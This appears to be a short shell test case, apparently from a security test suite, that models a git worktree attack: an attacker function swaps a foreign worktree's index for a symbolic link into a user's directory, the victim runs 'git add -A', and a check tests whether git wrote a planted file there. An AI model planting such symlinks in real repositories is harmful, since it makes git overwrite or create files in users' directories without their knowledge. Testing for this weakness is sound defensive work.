# A foreign worktree's index is a symbolic link into a directory of the user, where git then writes.
attack() {
    rm "$ENTRY/index"
    ln -s "$PRECIOUS_DIR/planted" "$ENTRY/index"
}
human() {
    git -C "$VICTIM" add -A
}
harmed() {
    [ -e "$PRECIOUS_DIR/planted" ]
}
